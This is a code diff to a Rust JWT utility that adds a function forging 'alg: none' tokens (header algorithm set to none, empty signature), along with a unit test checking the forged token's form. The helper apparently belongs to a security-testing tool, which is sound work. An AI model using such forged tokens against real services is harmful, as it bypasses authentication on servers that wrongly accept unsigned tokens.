@@ -177,11 +177,31 @@ pub fn unsigned_from_json(header: &str, payload: &str) -> Result<Unsigned, Decod
     })
 }
 
+/// The `alg: none` forgery: the edited header with its `alg` replaced by `none`, the payload,
+/// and an empty signature. The best-known JWT attack; a server that accepts it trusts anyone.
+pub fn unsigned_none(header: &str, payload: &str) -> Result<String, DecodeError> {
+    let mut header = json_object(Part::Header, header)?;
+    header.insert("alg".into(), Value::String("none".into()));
+    let header = serde_json::to_string(&header).unwrap_or_default();
+    let unsigned = unsigned_from_json(&header, payload)?;
+    Ok(format!("{}.", unsigned.signing_input))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
     const JWT_IO: &str = EXAMPLE;
+
+    #[test]
+    fn the_none_forgery_has_alg_none_and_an_empty_signature() {
+        let forged = unsigned_none(r#"{"alg":"HS256","typ":"JWT"}"#, r#"{"sub":"1"}"#).unwrap();
+        assert!(forged.ends_with('.'), "{forged}");
+        let token = decode(&forged).unwrap();
+        assert_eq!(token.header.as_ref().unwrap()["alg"], "none");
+        assert_eq!(token.payload.as_ref().unwrap()["sub"], "1");
+        assert!(unsigned_none("[]", "{}").is_err());
+    }
 
     #[test]
     fn decodes_the_three_parts() {
